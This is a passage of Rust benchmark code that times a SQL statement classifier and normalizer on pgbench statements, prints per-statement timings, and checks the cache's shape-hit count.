    let cached_sel = time(&|t| drop(c2.classify(t)), &selects);
    let lex_sel = time(&|t| drop(normalize::normalize(t)), &selects);
    println!(
        "{N} pgbench statements (select/update/insert), distinct literals:\n\
         classify_uncached: {uncached_all:.2} µs/stmt, classify: {cached_all:.2} µs/stmt\n\
         select only ({} stmts, ~57 bytes): classify_uncached {uncached_sel:.2} µs, classify {cached_sel:.2} µs, normalize alone {lex_sel:.3} µs\n\
         shape hits: {} + {}",
        selects.len(),
        c.shape_hits(),
        c2.shape_hits()
    );
    assert!(c.shape_hits() as u64 >= N - 3);
}
